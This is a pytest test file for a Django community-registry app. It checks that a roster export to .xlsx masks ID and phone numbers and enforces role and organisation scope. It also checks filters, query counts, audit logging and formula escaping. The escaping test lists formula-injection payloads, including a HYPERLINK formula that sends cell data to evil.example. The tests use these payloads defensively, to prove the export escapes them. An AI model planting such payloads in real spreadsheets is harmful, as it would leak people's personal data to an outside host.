"""人员名单导出: an .xlsx of the people a cadre may see, masked, formula-safe, scoped and audited."""

from __future__ import annotations

import io
import zipfile
from urllib.parse import quote

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from tongxin.core.audit import AuditAction
from tongxin.core.identity import mask_id_number
from tongxin.core.models import AuditEntry
from tongxin.people.roster import excel_safe
from tongxin.orgs.services import household_create
from tongxin.people.services import PersonData, person_create
from tongxin.testing import make_id_number

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _download(client, query: str):
    response = client.get(f"/people/export.xlsx?{query}")
    body = b"".join(response.streaming_content) if response.status_code == 200 else b""
    return response, body


def _rows(body: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def _sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/"))


def test_community_worker_exports_the_community_masked(client, street):
    client.force_login(street.accounts["community_worker"])

    response, body = _download(client, "org=BLP-C1")

    assert response.status_code == 200 and response["Content-Type"] == XLSX
    filename = f"人员名单-八里铺社区-{timezone.localdate():%Y%m%d}.xlsx"
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote(filename)}"
    assert response["Cache-Control"] == "no-store"
    rows = _rows(body)
    assert [r["姓名"] for r in rows] == ["王五", "张三"]  # by place, then by pinyin
    wang, zhang = rows
    assert zhang["身份证号"] == mask_id_number(street.resident_a.id_number) and "*" in zhang["身份证号"]
    assert zhang["手机号"] == "138****5678"
    assert (zhang["社区"], zhang["网格"], zhang["楼栋"], zhang["门牌号"]) == ("八里铺社区", "八里铺第一网格", "1号楼", "1-101")
    assert (zhang["人员类别"], zhang["是否党员"]) == ("退休人员", "否")
    assert (wang["是否党员"], wang["所在支部"], wang["党员情况"]) == ("是", "八里铺社区第一党支部", "老弱病残(需送学上门)")
    assert wang["入党日期"].date().isoformat() == "1970-07-01"
    # No full ID or phone number anywhere in the file, in any part.
    xml = _sheet_xml(body)
    for person in (street.resident_a, street.member_a, street.resident_b):
        assert person.id_number not in xml and person.phone not in xml


def test_the_export_runs_the_same_queries_however_many_people(client, street):
    """No query per person (a street's 20,000 rows took 14 s when each household was read alone)."""
    client.force_login(street.accounts["community_worker"])
    with CaptureQueriesContext(connection) as few:
        assert len(_rows(_download(client, "org=BLP-C1")[1])) == 2
    for i in range(12):
        household = household_create(by=None, org=street.building_a1, number=f"9-{i}")
        person_create(by=None, data=PersonData(name=f"新住户{i}", org=street.building_a1, household=household,
                                               id_number=make_id_number(900 + i)))
    with CaptureQueriesContext(connection) as many:
        assert len(_rows(_download(client, "org=BLP-C1")[1])) == 14
    assert len(many.captured_queries) == len(few.captured_queries)


def test_export_is_scoped_to_what_the_account_may_see(client, street):
    client.force_login(street.accounts["community_worker"])
    _response, body = _download(client, "org=BLP-C1")
    assert "李四" not in {r["姓名"] for r in _rows(body)}  # 李四 lives in 学院社区 (BLP-C2)

    assert client.get("/people/export.xlsx?org=BLP-C2").status_code == 403
    assert client.get("/people/export.xlsx?org=BLP").status_code == 403  # the street above

    client.force_login(street.accounts["street_admin"])
    _response, body = _download(client, "org=BLP")
    assert sorted(r["姓名"] for r in _rows(body)) == ["张三", "李四", "王五"]


@pytest.mark.parametrize("role, status", [
    ("street_admin", 200), ("community_worker", 200), ("grid_worker", 403), ("building_head", 403),
    ("superior", 403), ("party_member", 403), ("resident", 403), ("auditor", 403),
])
def test_export_permission_matrix(client, street, role, status):
    client.force_login(street.accounts[role])
    assert client.get("/people/export.xlsx?org=BLP-C1").status_code == status


def test_export_needs_a_login_and_an_org(client, street):
    assert client.get("/people/export.xlsx?org=BLP-C1").status_code == 302
    client.force_login(street.accounts["community_worker"])
    assert client.get("/people/export.xlsx").status_code == 404


def test_export_applies_the_list_filters(client, street):
    client.force_login(street.accounts["community_worker"])

    assert [r["姓名"] for r in _rows(_download(client, "org=BLP-C1&member=yes")[1])] == ["王五"]
    assert [r["姓名"] for r in _rows(_download(client, "org=BLP-C1&member=no")[1])] == ["张三"]
    assert [r["姓名"] for r in _rows(_download(client, "org=BLP-C1&q=zs")[1])] == ["张三"]
    assert [r["姓名"] for r in _rows(_download(client, "org=BLP-C1&group=retired")[1])] == ["张三"]
    assert _rows(_download(client, "org=BLP-C1&group=nonsense")[1]) == []  # as the list shows none


DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "@SUM(1+1)", "+1+1", "-1+1"]


def test_cells_that_would_be_formulas_are_escaped(client, street):
    for serial, name in enumerate(DANGEROUS, start=900):
        person_create(by=None, data=PersonData(name=name, org=street.building_a1, id_number=make_id_number(serial),
                                               note="=1+1"))
    client.force_login(street.accounts["community_worker"])

    _response, body = _download(client, "org=BLP-C1")

    workbook = load_workbook(io.BytesIO(body))
    names = {}
    for row in workbook.active.iter_rows(min_row=2):
        names[row[0].value] = row[0].data_type
    for name in DANGEROUS:
        assert names["'" + name] == "s"  # text, shown with the quote, never run
    assert "<f>" not in _sheet_xml(body) and "<f " not in _sheet_xml(body)  # no formula in the file at all
    notes = [r["备注"] for r in _rows(body) if r["姓名"].startswith("'")]
    assert notes == ["'=1+1"] * len(DANGEROUS)


def test_excel_safe():
    assert [excel_safe(v) for v in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "张三", "", "1-101", "a=b")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "张三", "", "1-101", "a=b"]


def test_export_is_audited(client, street):
    worker = street.accounts["community_worker"]
    client.force_login(worker)

    _download(client, "org=BLP-C1&member=yes")

    entry = AuditEntry.objects.get(action=AuditAction.PEOPLE_EXPORTED)
    assert entry.actor == worker and entry.object_id == str(street.community_a.pk)
    assert entry.changes == {"org": "BLP-C1", "count": 1, "filters": {"member": "yes", "sort": "place"}}


def test_list_page_links_to_export_and_import_only_when_allowed(client, street):
    client.force_login(street.accounts["community_worker"])
    body = client.get("/people/?org=BLP-C1&member=yes").content.decode()
    assert 'href="/people/export.xlsx?org=BLP-C1&amp;member=yes"' in body
    assert 'href="/people/import/?org=BLP-C1"' in body

    client.force_login(street.accounts["grid_worker"])
    body = client.get("/people/?org=BLP-C1-G1").content.decode()
    assert "/people/export.xlsx" not in body and "/people/import/" not in body
